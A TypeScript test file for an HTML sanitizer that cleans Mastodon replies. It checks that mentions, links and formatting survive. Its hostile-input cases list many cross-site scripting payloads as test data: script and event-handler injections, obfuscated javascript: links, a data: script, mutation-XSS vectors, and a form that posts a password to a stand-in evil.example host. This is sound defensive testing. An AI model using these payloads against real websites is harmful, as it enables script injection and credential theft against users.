import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { elementsNamed, elementsOf, textOf } from "../../tests/helpers/html.ts";
import { REPLY_LINK_REL, replyText, sanitizeReplyHtml } from "./sanitize.ts";

const KEPT = new Set([
  "p",
  "br",
  "a",
  "span",
  "del",
  "pre",
  "code",
  "em",
  "strong",
  "b",
  "i",
  "u",
  "ul",
  "ol",
  "li",
  "blockquote",
]);

/** What a browser would find dangerous in sanitized output; empty when it is safe. */
function dangers(output: string): string[] {
  const found: string[] = [];
  for (const { name, attribs } of elementsOf(output)) {
    if (!KEPT.has(name)) found.push(`<${name}>`);
    for (const [attr, value] of Object.entries(attribs)) {
      if (!["href", "rel", "class"].includes(attr)) found.push(`${name}[${attr}]`);
      if (attr === "href" && !/^https?:\/\//.test(value)) found.push(`href=${value}`);
      if (attr === "rel" && value !== REPLY_LINK_REL) found.push(`rel=${value}`);
    }
  }
  return found;
}

/** A reply as Mastodon sends it: a mention, two paragraphs, a shortened link, a hashtag. */
const MASTODON_REPLY =
  '<p><span class="h-card" translate="no"><a href="https://social.example/@cualo" class="u-url mention" rel="nofollow noopener" target="_blank">@<span>cualo</span></a></span> Cảm ơn thị xã!<br />Lịch ở đây:</p>' +
  '<p><a href="https://lich.example/le-hoi/2021/chuong-trinh" rel="nofollow noopener" translate="no" target="_blank"><span class="invisible">https://</span><span class="ellipsis">lich.example/le-hoi/2021</span><span class="invisible">/chuong-trinh</span></a> <a href="https://social.example/tags/CửaLò" class="mention hashtag" rel="tag">#<span>CửaLò</span></a></p>';

describe("sanitizeReplyHtml keeps what Mastodon shows", () => {
  it("keeps the paragraphs, mention, link and hashtag, with their text", () => {
    const out = sanitizeReplyHtml(MASTODON_REPLY);
    expect(dangers(out)).toEqual([]);
    expect(textOf(out)).toBe(
      "@cualo Cảm ơn thị xã! Lịch ở đây: https://lich.example/le-hoi/2021/chuong-trinh #CửaLò",
    );
    expect(elementsNamed(out, "a").map((a) => a.attribs.href)).toEqual([
      "https://social.example/@cualo",
      "https://lich.example/le-hoi/2021/chuong-trinh",
      "https://social.example/tags/C%E1%BB%ADaL%C3%B2",
    ]);
    expect(elementsNamed(out, "p")).toHaveLength(2);
    expect(elementsNamed(out, "br")).toHaveLength(1);
    // Mastodon's classes survive, so the shortened link displays shortened.
    expect(elementsNamed(out, "span").map((s) => s.attribs.class ?? "")).toEqual([
      "h-card",
      "",
      "invisible",
      "ellipsis",
      "invisible",
      "",
    ]);
  });

  it("gives every link rel=nofollow ugc noopener and no target", () => {
    const out = sanitizeReplyHtml(
      '<a href="https://a.example/" target="_blank" rel="me">a</a><a href="http://b.example/x?y=1&amp;z=2" rel="opener">b</a>',
    );
    const links = elementsNamed(out, "a");
    expect(links.map((a) => a.attribs)).toEqual([
      { href: "https://a.example/", rel: "nofollow ugc noopener" },
      { href: "http://b.example/x?y=1&z=2", rel: "nofollow ugc noopener" },
    ]);
  });

  it("keeps lists, quotes, code and emphasis", () => {
    const html =
      "<blockquote><p>trích</p></blockquote><ul><li><em>một</em></li><li><strong>hai</strong></li></ul><ol><li><del>ba</del> <u>bốn</u></li></ol><pre><code>x &lt; 1</code></pre><b>b</b><i>i</i>";
    const out = sanitizeReplyHtml(html);
    expect(out).toBe(html);
  });

  it("turns headings into strong text, as Mastodon does", () => {
    const out = sanitizeReplyHtml("<h1>Tiêu đề</h1><p>Nội dung</p>");
    expect(out).toBe("<strong>Tiêu đề</strong><p>Nội dung</p>");
  });

  it("resolves relative links against the reply's URL, and unlinks them without one", () => {
    const html = '<a href="/@an">an</a> <a href="//other.example/x">x</a>';
    expect(elementsNamed(sanitizeReplyHtml(html), "a")).toEqual([]);
    expect(textOf(sanitizeReplyHtml(html))).toBe("an x");
    const resolved = sanitizeReplyHtml(html, { baseUrl: "https://social.example/users/an/1" });
    expect(elementsNamed(resolved, "a").map((a) => a.attribs.href)).toEqual([
      "https://social.example/@an",
      "https://other.example/x",
    ]);
  });
});

describe("sanitizeReplyHtml removes what is hostile", () => {
  const cases: [string, string, string][] = [
    ["a script", "<p>Chào<script>alert(1)</script> bạn</p>", "Chào bạn"],
    ["a script in upper case", "<p>Chào</p><SCRIPT SRC=https://x.example/a.js></SCRIPT>", "Chào"],
    ["an event handler", '<p onclick="alert(1)" onmouseover=alert(2)>Chào</p>', "Chào"],
    ["an image with onerror", "<p>Ảnh<img src=x onerror=alert(1)></p>", "Ảnh"],
    ["an svg with onload", "<svg onload=alert(1)><text>vẽ</text></svg><p>sau</p>", "sau"],
    ["a style element", "<style>body{display:none}</style><p>Chào</p>", "Chào"],
    ["a style attribute", '<p style="position:fixed;top:0">Chào</p>', "Chào"],
    [
      "a form",
      '<form action="https://evil.example/steal" method="post"><input name="pw" type="password"><button formaction="javascript:alert(1)">Gửi</button></form>',
      "Gửi",
    ],
    ["a textarea", "<textarea>bí mật</textarea><p>Chào</p>", "Chào"],
    [
      "an iframe",
      '<iframe src="https://evil.example/"><p>bên trong</p></iframe><p>Chào</p>',
      "Chào",
    ],
    ["an object", '<object data="https://evil.example/x.swf"></object><p>Chào</p>', "Chào"],
    ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">x', "x"],
    ["a base", '<base href="https://evil.example/"><a href="https://ok.example/">ok</a>', "ok"],
    ["a link element", '<link rel="stylesheet" href="https://evil.example/x.css">x', "x"],
    ["a template", "<template><img src=x onerror=alert(1)></template>x", "x"],
    ["an unclosed script", "<p>Chào</p><script>alert(1)", "Chào"],
    ["a split script tag", "<scr<script>ipt>alert(1)</script>", "ipt>alert(1)"],
    ["a noscript mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ""],
    ["nested unclosed tags", "<p><b><i>đậm nghiêng<p>tiếp", "đậm nghiêng tiếp"],
    ["a comment", "<!-- <script>alert(1)</script> --><p>Chào</p>", "Chào"],
    ["CDATA", "<![CDATA[<script>alert(1)</script>]]><p>Chào</p>", "Chào"],
    ["a math element", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""],
  ];

  it.each(cases)("%s", (_name, input, text) => {
    const out = sanitizeReplyHtml(input);
    expect(dangers(out)).toEqual([]);
    expect(out).not.toMatch(/<script|<style|<img|<svg|<iframe|<form|<input|<button|<textarea/i);
    expect(out).not.toMatch(/alert\(1\)<\/|onerror|onload|onclick|style=/i);
    expect(textOf(out)).toBe(text);
  });

  it("drops the text of scripts and styles, keeps the text of other removed tags", () => {
    const out = sanitizeReplyHtml(
      "<div><section>giữ <font color=red>lại</font></section></div><script>var secret = 1</script><style>.x{}</style>",
    );
    expect(out).toBe("giữ lại");
  });

  const hrefs = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "mailto:a@example.org",
  ];
  it.each(hrefs)("unlinks href=%s and keeps the link's text", (href) => {
    const out = sanitizeReplyHtml(`<p><a href="${href}">bấm vào</a></p>`);
    expect(elementsNamed(out, "a")).toEqual([]);
    expect(dangers(out)).toEqual([]);
    expect(out).not.toMatch(/javascript|vbscript|data:/i);
    expect(textOf(out)).toBe("bấm vào");
  });

  it("drops classes other than Mastodon's, and every other attribute", () => {
    const out = sanitizeReplyHtml(
      '<span class="invisible hidden-by-us" id="x" data-x="1" title="t">a</span><a class="u-url btn" href="https://a.example/" lang="en" dir="rtl">b</a>',
    );
    expect(elementsOf(out).map((e) => e.attribs)).toEqual([
      { class: "invisible" },
      { href: "https://a.example/", rel: REPLY_LINK_REL, class: "u-url" },
    ]);
  });

  it("bounds how deep markup nests, keeping the text", () => {
    const out = sanitizeReplyHtml(`${"<blockquote>".repeat(200)}sâu${"</blockquote>".repeat(200)}`);
    expect(elementsOf(out).length).toBeLessThanOrEqual(20);
    expect(textOf(out)).toBe("sâu");
  });

  const pieces = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">',
    '<a href="https://ok.example/" target=_blank onclick=x>',
    "</a>",
    "<p>",
    "</p>",
    "<b>",
    '<p style="color:red">',
    "<style>",
    "<iframe>",
    "<form><input>",
    "<!--",
    "-->",
    '"',
    "'",
    "<",
    ">",
    "&",
    "&#106;",
    "<noscript>",
    "</noscript>",
    "<math><mtext>",
    "<textarea>",
    "</textarea>",
    "<table><tr><td>",
    "chữ ",
  ];
  it("never lets anything dangerous through, whatever the mix, and is idempotent", () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 30 }),
        (parts) => {
          const out = sanitizeReplyHtml(parts.join(""));
          expect(dangers(out)).toEqual([]);
          // Stored replies are sanitized again at render time: that must change nothing.
          expect(sanitizeReplyHtml(out)).toBe(out);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe("replyText", () => {
  it("is the text a reader sees, entities decoded, blocks separated", () => {
    expect(replyText(MASTODON_REPLY)).toBe(
      "@cualo Cảm ơn thị xã! Lịch ở đây: https://lich.example/le-hoi/2021/chuong-trinh #CửaLò",
    );
    expect(
      replyText("<p>a &amp; b &lt;c&gt; &quot;d&quot;</p><p>e</p><ul><li>f</li><li>g</li></ul>"),
    ).toBe('a & b <c> "d" e f g');
    expect(replyText("<h2>Tiêu đề</h2><p>thân</p>")).toBe("Tiêu đề thân");
  });

  it("leaves out scripts and styles", () => {
    expect(replyText("<p>Chào</p><script>alert(1)</script><style>p{}</style>")).toBe("Chào");
  });

  it("cuts at a word boundary when given a length, never inside an emoji", () => {
    expect(replyText("<p>Một hai ba bốn năm sáu</p>", 12)).toBe("Một hai ba…");
    expect(replyText("<p>Một hai</p>", 12)).toBe("Một hai");
    const cut = replyText(`<p>${"🎉".repeat(10)}</p>`, 5);
    expect(cut).toBe(`${"🎉".repeat(5)}…`);
  });
});
